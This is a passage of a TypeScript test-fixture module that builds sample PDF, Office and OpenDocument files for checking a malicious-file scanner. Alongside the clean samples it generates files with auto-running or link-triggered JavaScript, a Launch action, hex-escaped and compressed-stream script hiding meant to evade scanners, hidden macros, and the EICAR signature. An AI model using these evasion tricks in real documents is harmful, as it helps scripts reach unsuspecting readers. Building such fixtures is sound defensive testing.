// Small, real evidence files for tests and the demo seed: the clean ones open
// in PDF readers, Word, Excel and LibreOffice (valid PDF cross-reference
// tables; OOXML with [Content_Types].xml and relationships; OpenDocument with
// an uncompressed `mimetype` first and a manifest). The bad ones are each bad
// in exactly one way, so a scanner's verdict can be checked reason by reason.
//
// Node only (node:crypto for the PDF encryption's MD5). Every file is built in
// memory; none is over 50 KB.
import { createHash, randomBytes } from 'node:crypto';
import { strToU8, unzipSync, zlibSync, zipSync, type Zippable } from 'fflate';

export interface EvidenceSample {
  name: string;
  /** MIME type, as a browser would declare it for the name's extension. */
  type: string;
  bytes: Uint8Array;
}

export const MIME = {
  pdf: 'application/pdf',
  doc: 'application/msword',
  docx: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
  xls: 'application/vnd.ms-excel',
  xlsx: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
  odt: 'application/vnd.oasis.opendocument.text',
  ods: 'application/vnd.oasis.opendocument.spreadsheet',
} as const;

function mimeFor(name: string): string {
  const ext = name.slice(name.lastIndexOf('.') + 1).toLowerCase();
  return (MIME as Record<string, string>)[ext] ?? 'application/octet-stream';
}

/**
 * The EICAR anti-malware test signature, assembled at run time so that no file
 * of this repository holds it (antivirus on a developer's machine would
 * quarantine the source file).
 */
export function eicarSignature(): string {
  return ['X5O!P%@AP[4\\PZX54(P^)7CC)7}', '$EICAR', '-STANDARD-ANTIVIRUS', '-TEST-FILE!', '$H+H*'].join('');
}

// ---------------------------------------------------------------------------
// PDF

const latin1Bytes = (text: string) => Uint8Array.from(text, (char) => char.charCodeAt(0) & 0xff);

function concatBytes(parts: Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((sum, part) => sum + part.length, 0));
  let offset = 0;
  for (const part of parts) {
    out.set(part, offset);
    offset += part.length;
  }
  return out;
}

/** Text as a PDF literal string: backslash, parentheses escaped; Latin-1 only. */
function pdfString(text: string): string {
  return `(${text.replace(/[\\()]/g, (char) => `\\${char}`).replace(/[^\x20-\x7e]/g, '?')})`;
}

/** A content stream writing `lines` in 12-point Helvetica from the top of an A4 page. */
function textContent(lines: string[]): string {
  const shown = lines.map((line, index) => `${index === 0 ? '' : '0 -16 Td '}${pdfString(line)} Tj`).join('\n');
  return `BT\n/F1 12 Tf\n56 780 Td\n${shown}\nET\n`;
}

/** A PDF object body: a dictionary, or a dictionary plus stream data. */
type PdfObject = string | { dictionary: string; stream: Uint8Array };

/**
 * Serialises objects 1..n with a cross-reference table whose offsets are exact.
 * Object 1 must be the catalog.
 */
function writePdf(objects: PdfObject[], trailerExtra = ''): Uint8Array {
  const parts: Uint8Array[] = [latin1Bytes('%PDF-1.4\n%\xe2\xe3\xcf\xd3\n')];
  let length = parts[0]!.length;
  const push = (part: Uint8Array) => {
    parts.push(part);
    length += part.length;
  };
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets.push(length);
    if (typeof object === 'string') {
      push(latin1Bytes(`${index + 1} 0 obj\n${object}\nendobj\n`));
    } else {
      push(latin1Bytes(`${index + 1} 0 obj\n<< ${object.dictionary} /Length ${object.stream.length} >>\nstream\n`));
      push(object.stream);
      push(latin1Bytes('\nendstream\nendobj\n'));
    }
  });
  const xrefOffset = length;
  const entries = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  push(
    latin1Bytes(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${entries}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailerExtra}>>\nstartxref\n${xrefOffset}\n%%EOF\n`,
    ),
  );
  return concatBytes(parts);
}

/** The objects of a one-page document: catalog, pages, page, its content, the font. */
function onePage(content: Uint8Array, catalogExtra = ''): PdfObject[] {
  return [
    `<< /Type /Catalog /Pages 2 0 R ${catalogExtra}>>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    { dictionary: '', stream: content },
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
  ];
}

/** A one-page PDF showing `text` (one line per "\n"). */
export function cleanPdf(text = 'Quality service claim: evidence of delivery, April 2026.', name = 'evidence.pdf'): EvidenceSample {
  return { name, type: MIME.pdf, bytes: writePdf(onePage(latin1Bytes(textContent(text.split('\n'))))) };
}

/** A PDF whose catalog runs JavaScript when it is opened (/OpenAction with a /JavaScript action). */
export function pdfWithJavaScript(): EvidenceSample {
  const content = latin1Bytes(textContent(['Opening this document runs a script.']));
  const objects = onePage(content, '/OpenAction 6 0 R ');
  objects.push(`<< /Type /Action /S /JavaScript /JS ${pdfString("app.alert('This PDF runs a script.');")} >>`);
  return { name: 'scripted.pdf', type: MIME.pdf, bytes: writePdf(objects) };
}

/** A PDF whose page link starts a program (/Launch action). */
export function pdfWithLaunchAction(): EvidenceSample {
  const objects = onePage(latin1Bytes(textContent(['Clicking the link starts a program.'])));
  objects[2] = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [6 0 R] >>';
  objects.push(`<< /Type /Annot /Subtype /Link /Rect [56 760 300 800] /Border [0 0 0] /A << /S /Launch /F ${pdfString('C:\\Windows\\System32\\calc.exe')} >> >>`);
  return { name: 'launches.pdf', type: MIME.pdf, bytes: writePdf(objects) };
}

/**
 * A PDF whose link runs JavaScript, with the names spelt in hex escapes
 * (/J#61vaScript, /J#53) as malware does to dodge simple scanners; a link
 * action, so it is no document-level script either.
 */
export function pdfWithEscapedJavaScriptNames(): EvidenceSample {
  const objects = onePage(latin1Bytes(textContent(['Clicking the link runs a script.'])));
  objects[2] = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [6 0 R] >>';
  objects.push(`<< /Type /Annot /Subtype /Link /Rect [56 760 300 800] /Border [0 0 0] /A << /S /J#61vaScript /J#53 ${pdfString("app.alert('hidden');")} >> >>`);
  return { name: 'escaped-script.pdf', type: MIME.pdf, bytes: writePdf(objects) };
}

/**
 * A PDF 1.5 whose page runs JavaScript when it is shown (the page's /AA /O
 * action), the action sitting in a compressed object stream (/ObjStm) indexed
 * by a cross-reference stream: the words "JavaScript" and "JS" never appear in
 * the file's bytes, and the script is no document-level action either.
 */
export function pdfWithJavaScriptInObjectStream(): EvidenceSample {
  const action = `<< /Type /Action /S /JavaScript /JS ${pdfString("app.alert('compressed');")} >>`;
  const objectStreamHeader = '7 0 ';
  const objects = onePage(latin1Bytes(textContent(['Showing this page runs a script.'])));
  objects[2] = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /AA << /O 7 0 R >> >>';
  objects.push({
    dictionary: `/Type /ObjStm /N 1 /First ${objectStreamHeader.length} /Filter /FlateDecode`,
    stream: zlibSync(latin1Bytes(`${objectStreamHeader}${action}`)),
  });
  // Objects 1-6 as usual; 7 lives in stream 6; 8 is the cross-reference stream itself.
  const parts: Uint8Array[] = [latin1Bytes('%PDF-1.5\n%\xe2\xe3\xcf\xd3\n')];
  let length = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets.push(length);
    const body =
      typeof object === 'string'
        ? latin1Bytes(`${index + 1} 0 obj\n${object}\nendobj\n`)
        : concatBytes([latin1Bytes(`${index + 1} 0 obj\n<< ${object.dictionary} /Length ${object.stream.length} >>\nstream\n`), object.stream, latin1Bytes('\nendstream\nendobj\n')]);
    parts.push(body);
    length += body.length;
  });
  const xrefOffset = length;
  // Rows of [type (1 byte), field 2 (4 bytes), field 3 (2 bytes)]: 0 free, 1 at an offset, 2 inside an object stream.
  const row = (type: number, second: number, third: number) => {
    const bytes = new Uint8Array(7);
    const view = new DataView(bytes.buffer);
    view.setUint8(0, type);
    view.setUint32(1, second);
    view.setUint16(5, third);
    return bytes;
  };
  const rows = concatBytes([row(0, 0, 0xffff), ...offsets.map((offset) => row(1, offset, 0)), row(2, 6, 0), row(1, xrefOffset, 0)]);
  parts.push(
    latin1Bytes(`8 0 obj\n<< /Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R /Length ${rows.length} >>\nstream\n`),
    rows,
    latin1Bytes(`\nendstream\nendobj\nstartxref\n${xrefOffset}\n%%EOF\n`),
  );
  return { name: 'compressed-script.pdf', type: MIME.pdf, bytes: concatBytes(parts) };
}

const PDF_PASSWORD_PADDING = Uint8Array.from([
  0x28, 0xbf, 0x4e, 0x5e, 0x4e, 0x75, 0x8a, 0x41, 0x64, 0x00, 0x4e, 0x56, 0xff, 0xfa, 0x01, 0x08, 0x2e, 0x2e, 0x00, 0xb6, 0xd0, 0x68, 0x3e, 0x80, 0x2f,
  0x0c, 0xa9, 0xfe, 0x64, 0x53, 0x69, 0x7a,
]);

function rc4(key: Uint8Array, data: Uint8Array): Uint8Array {
  const state = Uint8Array.from({ length: 256 }, (_, index) => index);
  for (let i = 0, j = 0; i < 256; i++) {
    j = (j + state[i]! + key[i % key.length]!) & 0xff;
    [state[i], state[j]] = [state[j]!, state[i]!];
  }
  const out = new Uint8Array(data.length);
  for (let n = 0, i = 0, j = 0; n < data.length; n++) {
    i = (i + 1) & 0xff;
    j = (j + state[i]!) & 0xff;
    [state[i], state[j]] = [state[j]!, state[i]!];
    out[n] = data[n]! ^ state[(state[i]! + state[j]!) & 0xff]!;
  }
  return out;
}

const md5 = (...parts: Uint8Array[]) => new Uint8Array(createHash('md5').update(concatBytes(parts)).digest());
const paddedPassword = (password: string) => concatBytes([latin1Bytes(password), PDF_PASSWORD_PADDING]).subarray(0, 32);
const hex = (bytes: Uint8Array) => Buffer.from(bytes).toString('hex');

/** The password that opens `encryptedPdf()`. */
export const ENCRYPTED_PDF_PASSWORD = 'claims-2026';

/**
 * A PDF encrypted with the standard security handler (RC4, 40-bit, revision 2):
 * readers ask for ENCRYPTED_PDF_PASSWORD before they show anything.
 */
export function encryptedPdf(): EvidenceSample {
  const permissions = -4; // everything allowed once opened
  const documentId = Uint8Array.from(randomBytes(16));
  const owner = rc4(md5(paddedPassword('owner-secret')).subarray(0, 5), paddedPassword(ENCRYPTED_PDF_PASSWORD));
  const permissionBytes = new Uint8Array(4);
  new DataView(permissionBytes.buffer).setInt32(0, permissions, true);
  const fileKey = md5(paddedPassword(ENCRYPTED_PDF_PASSWORD), owner, permissionBytes, documentId).subarray(0, 5);
  const user = rc4(fileKey, PDF_PASSWORD_PADDING);
  // Each object is encrypted with its own key: the file key plus its number and generation.
  const objectKey = (number: number) => md5(fileKey, Uint8Array.from([number & 0xff, (number >> 8) & 0xff, (number >> 16) & 0xff, 0, 0])).subarray(0, 10);
  const content = rc4(objectKey(4), latin1Bytes(textContent(['Confidential claim evidence, protected with a password.'])));
  const objects = onePage(content);
  objects.push(`<< /Filter /Standard /V 1 /R 2 /O <${hex(owner)}> /U <${hex(user)}> /P ${permissions} >>`);
  return {
    name: 'protected.pdf',
    type: MIME.pdf,
    bytes: writePdf(objects, `/Encrypt 6 0 R /ID [<${hex(documentId)}> <${hex(documentId)}>] `),
  };
}

// ---------------------------------------------------------------------------
// Office Open XML (docx, xlsx)

const XML_DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const escapeXml = (text: string) => text.replace(/[<>&"']/g, (char) => `&${{ '<': 'lt', '>': 'gt', '&': 'amp', '"': 'quot', "'": 'apos' }[char]};`);
const FIXED_DATE = '2026-04-01T09:00:00Z';
// Fixed timestamps in the zip entries, so the same call builds the same bytes.
const ZIP_MTIME = new Date('2026-04-01T09:00:00Z');

function zip(parts: Record<string, string | Uint8Array>, storedFirst?: string): Uint8Array {
  const files: Zippable = {};
  // OpenDocument requires `mimetype` first and uncompressed.
  if (storedFirst !== undefined) files[storedFirst] = [toBytes(parts[storedFirst]!), { level: 0 }];
  for (const [name, data] of Object.entries(parts)) if (name !== storedFirst) files[name] = [toBytes(data), { level: 6 }];
  return zipSync(files, { mtime: ZIP_MTIME });
}

const toBytes = (data: string | Uint8Array) => (typeof data === 'string' ? strToU8(data) : data);

function corePropertiesXml(title: string): string {
  return `${XML_DECLARATION}<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><dc:title>${escapeXml(title)}</dc:title><dc:creator>Commissioning portal test data</dc:creator><dcterms:created xsi:type="dcterms:W3CDTF">${FIXED_DATE}</dcterms:created><dcterms:modified xsi:type="dcterms:W3CDTF">${FIXED_DATE}</dcterms:modified></cp:coreProperties>`;
}

function packageRelationshipsXml(mainPart: string): string {
  return `${XML_DECLARATION}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="${mainPart}"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/><Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/extended-properties" Target="docProps/app.xml"/></Relationships>`;
}

function appPropertiesXml(application: string): string {
  return `${XML_DECLARATION}<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><Application>${application}</Application></Properties>`;
}

interface DocxOptions {
  /** Each paragraph is one or more runs; Word splits text into runs freely. */
  paragraphs: string[][];
  /** Declare the main part macro-enabled (what Word writes for a .docm). */
  macroEnabledContentType?: boolean;
  /** Add word/vbaProject.bin with its relationship, as Word does for a document with macros. */
  vbaProject?: boolean;
}

function buildDocx({ paragraphs, macroEnabledContentType = false, vbaProject = false }: DocxOptions): Uint8Array {
  const mainType = macroEnabledContentType
    ? 'application/vnd.ms-word.document.macroEnabled.main+xml'
    : 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
  const body = paragraphs
    .map((runs) => `<w:p>${runs.map((run) => `<w:r><w:t xml:space="preserve">${escapeXml(run)}</w:t></w:r>`).join('')}</w:p>`)
    .join('');
  const parts: Record<string, string | Uint8Array> = {
    '[Content_Types].xml': `${XML_DECLARATION}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${
      vbaProject ? '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' : ''
    }<Override PartName="/word/document.xml" ContentType="${mainType}"/><Override PartName="/word/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"/><Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/><Override PartName="/docProps/app.xml" ContentType="application/vnd.openxmlformats-officedocument.extended-properties+xml"/></Types>`,
    '_rels/.rels': packageRelationshipsXml('word/document.xml'),
    'word/document.xml': `${XML_DECLARATION}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}<w:sectPr><w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="1440" w:right="1440" w:bottom="1440" w:left="1440" w:header="708" w:footer="708" w:gutter="0"/></w:sectPr></w:body></w:document>`,
    'word/_rels/document.xml.rels': `${XML_DECLARATION}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>${
      vbaProject ? '<Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>' : ''
    }</Relationships>`,
    'word/styles.xml': `${XML_DECLARATION}<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:ascii="Arial" w:hAnsi="Arial" w:cs="Arial"/><w:sz w:val="22"/></w:rPr></w:rPrDefault></w:docDefaults><w:style w:type="paragraph" w:default="1" w:styleId="Normal"><w:name w:val="Normal"/></w:style></w:styles>`,
    'docProps/core.xml': corePropertiesXml('Claim evidence'),
    'docProps/app.xml': appPropertiesXml('Commissioning portal test data'),
  };
  if (vbaProject) parts['word/vbaProject.bin'] = vbaProjectBin();
  return zip(parts);
}

/** A stand-in VBA project: a compound file with the storages Office writes (no runnable code). */
function vbaProjectBin(): Uint8Array {
  return writeCompoundFile([
    { name: 'PROJECT', data: strToU8('ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000\r\nName="Project"\r\n') },
    { name: 'VBA', children: [{ name: '_VBA_PROJECT', data: Uint8Array.from([0xcc, 0x61, 0xff, 0xff, 0x00, 0x00, 0x00]) }, { name: 'dir', data: new Uint8Array(16) }] },
  ]);
}

const paragraphsOf = (text: string) => text.split('\n').map((line) => [line]);

/** A Word document with `text`, one paragraph per "\n". */
export function cleanDocx(text = 'Quality service claim: evidence of delivery, April 2026.', name = 'evidence.docx'): EvidenceSample {
  return { name, type: MIME.docx, bytes: buildDocx({ paragraphs: paragraphsOf(text) }) };
}

/** A Word document naming a patient's NHS number (943 476 5919), split across two runs as Word often does. */
export function docxWithNhsNumber(): EvidenceSample {
  return {
    name: 'patient-letter.docx',
    type: MIME.docx,
    bytes: buildDocx({ paragraphs: [['Review of care for the patient below.'], ['NHS number: ', '943 476 ', '5919'], ['Seen on 3 March 2026.']] }),
  };
}

/** A .docx that carries a VBA project (word/vbaProject.bin) while declaring itself a plain document. */
export function macroDocx(): EvidenceSample {
  return { name: 'with-macros.docx', type: MIME.docx, bytes: buildDocx({ paragraphs: paragraphsOf('This document carries macros.'), vbaProject: true }) };
}

/** A macro-enabled Word document (.docm content type) renamed to .docx. */
export function docmRenamedDocx(): EvidenceSample {
  return {
    name: 'renamed-docm.docx',
    type: MIME.docx,
    bytes: buildDocx({ paragraphs: paragraphsOf('Saved as a macro-enabled document.'), macroEnabledContentType: true, vbaProject: true }),
  };
}

export type SpreadsheetCell = string | number;

function columnName(index: number): string {
  let name = '';
  for (let n = index + 1; n > 0; n = Math.floor((n - 1) / 26)) name = String.fromCharCode(65 + ((n - 1) % 26)) + name;
  return name;
}

/** An Excel workbook with one sheet, "Claim", holding `rows` (strings as shared strings, numbers as numbers). */
export function cleanXlsx(
  rows: SpreadsheetCell[][] = [
    ['Month', 'Appointments'],
    ['April 2026', 412],
  ],
  name = 'evidence.xlsx',
): EvidenceSample {
  const sharedStrings: string[] = [];
  const sharedIndex = (text: string) => {
    const existing = sharedStrings.indexOf(text);
    if (existing !== -1) return existing;
    sharedStrings.push(text);
    return sharedStrings.length - 1;
  };
  const sheetRows = rows
    .map((cells, rowIndex) => {
      const xmlCells = cells
        .map((cell, columnIndex) => {
          const ref = `${columnName(columnIndex)}${rowIndex + 1}`;
          return typeof cell === 'number' ? `<c r="${ref}"><v>${cell}</v></c>` : `<c r="${ref}" t="s"><v>${sharedIndex(cell)}</v></c>`;
        })
        .join('');
      return `<row r="${rowIndex + 1}">${xmlCells}</row>`;
    })
    .join('');
  const spreadsheetNs = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  const parts: Record<string, string> = {
    '[Content_Types].xml': `${XML_DECLARATION}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/><Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/><Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/><Override PartName="/docProps/app.xml" ContentType="application/vnd.openxmlformats-officedocument.extended-properties+xml"/></Types>`,
    '_rels/.rels': packageRelationshipsXml('xl/workbook.xml'),
    'xl/workbook.xml': `${XML_DECLARATION}<workbook xmlns="${spreadsheetNs}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Claim" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': `${XML_DECLARATION}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/><Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/></Relationships>`,
    'xl/worksheets/sheet1.xml': `${XML_DECLARATION}<worksheet xmlns="${spreadsheetNs}"><sheetData>${sheetRows}</sheetData></worksheet>`,
    'xl/styles.xml': `${XML_DECLARATION}<styleSheet xmlns="${spreadsheetNs}"><fonts count="1"><font><sz val="11"/><name val="Arial"/></font></fonts><fills count="2"><fill><patternFill patternType="none"/></fill><fill><patternFill patternType="gray125"/></fill></fills><borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders><cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs><cellXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/></cellXfs><cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles></styleSheet>`,
    'docProps/core.xml': corePropertiesXml('Claim figures'),
    'docProps/app.xml': appPropertiesXml('Commissioning portal test data'),
  };
  // Written last: the shared strings are collected while the sheet is built.
  parts['xl/sharedStrings.xml'] = `${XML_DECLARATION}<sst xmlns="${spreadsheetNs}" count="${sharedStrings.length}" uniqueCount="${sharedStrings.length}">${sharedStrings
    .map((text) => `<si><t xml:space="preserve">${escapeXml(text)}</t></si>`)
    .join('')}</sst>`;
  return { name, type: MIME.xlsx, bytes: zip(parts) };
}

// ---------------------------------------------------------------------------
// OpenDocument (odt, ods)

const ODF_NAMESPACES =
  'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" xmlns:dc="http://purl.org/dc/elements/1.1/"';

interface OdfOptions {
  mimeType: (typeof MIME)['odt'] | (typeof MIME)['ods'];
  body: string;
  /** Extra parts, listed in the manifest too. */
  extraParts?: Record<string, string>;
  /** Manifest lines inserted into content.xml's file-entry (for the encrypted sample). */
  contentEntryExtra?: string;
}

function buildOdf({ mimeType, body, extraParts = {}, contentEntryExtra = '' }: OdfOptions): Uint8Array {
  const manifestEntries = [
    `<manifest:file-entry manifest:full-path="/" manifest:version="1.3" manifest:media-type="${mimeType}"/>`,
    contentEntryExtra
      ? `<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">${contentEntryExtra}</manifest:file-entry>`
      : '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>',
    '<manifest:file-entry manifest:full-path="meta.xml" manifest:media-type="text/xml"/>',
    ...Object.keys(extraParts).map((path) => `<manifest:file-entry manifest:full-path="${path}" manifest:media-type="text/xml"/>`),
  ];
  return zip(
    {
      mimetype: mimeType,
      'META-INF/manifest.xml': `${XML_DECLARATION}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">${manifestEntries.join('')}</manifest:manifest>`,
      'content.xml': `${XML_DECLARATION}<office:document-content ${ODF_NAMESPACES} office:version="1.3"><office:body>${body}</office:body></office:document-content>`,
      'meta.xml': `${XML_DECLARATION}<office:document-meta ${ODF_NAMESPACES} office:version="1.3"><office:meta><meta:generator>Commissioning portal test data</meta:generator><dc:title>Claim evidence</dc:title></office:meta></office:document-meta>`,
      ...extraParts,
    },
    'mimetype',
  );
}

const odtBody = (text: string) => `<office:text>${text.split('\n').map((line) => `<text:p>${escapeXml(line)}</text:p>`).join('')}</office:text>`;

/** An OpenDocument text document with `text`, one paragraph per "\n". */
export function cleanOdt(text = 'Quality service claim: evidence of delivery, April 2026.', name = 'evidence.odt'): EvidenceSample {
  return { name, type: MIME.odt, bytes: buildOdf({ mimeType: MIME.odt, body: odtBody(text) }) };
}

/** An OpenDocument spreadsheet with one sheet, "Claim", holding `rows`. */
export function cleanOds(
  rows: SpreadsheetCell[][] = [
    ['Month', 'Appointments'],
    ['April 2026', 412],
  ],
  name = 'evidence.ods',
): EvidenceSample {
  const tableRows = rows
    .map(
      (cells) =>
        `<table:table-row>${cells
          .map((cell) =>
            typeof cell === 'number'
              ? `<table:table-cell office:value-type="float" office:value="${cell}"><text:p>${cell}</text:p></table:table-cell>`
              : `<table:table-cell office:value-type="string"><text:p>${escapeXml(cell)}</text:p></table:table-cell>`,
          )
          .join('')}</table:table-row>`,
    )
    .join('');
  const columns = Math.max(1, ...rows.map((cells) => cells.length));
  const body = `<office:spreadsheet><table:table table:name="Claim"><table:table-column table:number-columns-repeated="${columns}"/>${tableRows}</table:table></office:spreadsheet>`;
  return { name, type: MIME.ods, bytes: buildOdf({ mimeType: MIME.ods, body }) };
}

/**
 * An OpenDocument text whose content.xml is encrypted, as LibreOffice writes a
 * password-protected file: the manifest carries the encryption data, and
 * content.xml holds ciphertext (random bytes here).
 */
export function encryptedOdt(): EvidenceSample {
  const encryptionData =
    '<manifest:encryption-data manifest:checksum-type="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0#sha256-1k" manifest:checksum="AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="><manifest:algorithm manifest:algorithm-name="http://www.w3.org/2001/04/xmlenc#aes256-cbc" manifest:initialisation-vector="AAAAAAAAAAAAAAAAAAAAAA=="/><manifest:start-key-generation manifest:start-key-generation-name="http://www.w3.org/2000/09/xmldsig#sha256" manifest:key-size="32"/><manifest:key-derivation manifest:key-derivation-name="PBKDF2" manifest:key-size="32" manifest:iteration-count="100000" manifest:salt="AAAAAAAAAAAAAAAAAAAAAA=="/></manifest:encryption-data>';
  const bytes = buildOdf({ mimeType: MIME.odt, body: odtBody('placeholder'), contentEntryExtra: encryptionData });
  return { name: 'protected.odt', type: MIME.odt, bytes: replaceZipPart(bytes, 'content.xml', Uint8Array.from(randomBytes(512))) };
}

/** Re-zips `archive` with one part's bytes replaced, keeping `mimetype` first and stored. */
function replaceZipPart(archive: Uint8Array, partName: string, data: Uint8Array): Uint8Array {
  // The samples are ours, so unzipping them again is simpler than keeping the parts around.
  const parts: Record<string, Uint8Array> = unzipSync(archive);
  parts[partName] = data;
  return zip(parts, 'mimetype' in parts ? 'mimetype' : undefined);
}

/** An OpenDocument text carrying a StarBasic macro library (Basic/Standard/Module1.xml). */
export function macroOdt(): EvidenceSample {
  const module =
    '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd">\n<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Main\n  MsgBox &quot;Hello&quot;\nEnd Sub</script:module>';
  return {
    name: 'with-macros.odt',
    type: MIME.odt,
    bytes: buildOdf({ mimeType: MIME.odt, body: odtBody('This document carries a macro.'), extraParts: { 'Basic/Standard/Module1.xml': module } }),
  };
}

// ---------------------------------------------------------------------------
// Compound files (legacy doc/xls, password-protected OOXML)

export type CompoundEntrySpec = { name: string; data: Uint8Array } | { name: string; children: CompoundEntrySpec[] };

const SECTOR = 512;
const MINI_SECTOR = 64;
const MINI_CUTOFF = 4096;
const END_OF_CHAIN = 0xfffffffe;
const FREE_SECTOR = 0xffffffff;
const FAT_SECTOR = 0xfffffffd;
const NO_STREAM = 0xffffffff;

/**
 * Writes a version-3 compound file (512-byte sectors) holding `entries` under
 * the root: streams under 4096 bytes go to the mini stream, as the format
 * requires, the rest to regular sectors. Small files only (no DIFAT sectors).
 */
export function writeCompoundFile(entries: CompoundEntrySpec[]): Uint8Array {
  interface Node {
    name: string;
    type: 1 | 2 | 5;
    data?: Uint8Array;
    children: number[];
    left: number;
    right: number;
    child: number;
    start: number;
    size: number;
  }
  const nodes: Node[] = [{ name: 'Root Entry', type: 5, children: [], left: NO_STREAM, right: NO_STREAM, child: NO_STREAM, start: END_OF_CHAIN, size: 0 }];
  const add = (specs: CompoundEntrySpec[], parent: number) => {
    for (const spec of specs) {
      const id = nodes.length;
      nodes.push({ name: spec.name, type: 'data' in spec ? 2 : 1, data: 'data' in spec ? spec.data : undefined, children: [], left: NO_STREAM, right: NO_STREAM, child: NO_STREAM, start: END_OF_CHAIN, size: 0 });
      nodes[parent]!.children.push(id);
      if ('children' in spec) add(spec.children, id);
    }
  };
  add(entries, 0);
  // Siblings form a tree ordered by name length, then upper-cased name; a chain of right siblings is such a tree.
  for (const node of nodes) {
    const ordered = [...node.children].sort((a, b) => {
      const nameA = nodes[a]!.name.toUpperCase();
      const nameB = nodes[b]!.name.toUpperCase();
      return nameA.length - nameB.length || (nameA < nameB ? -1 : nameA > nameB ? 1 : 0);
    });
    if (ordered.length > 0) node.child = ordered[0]!;
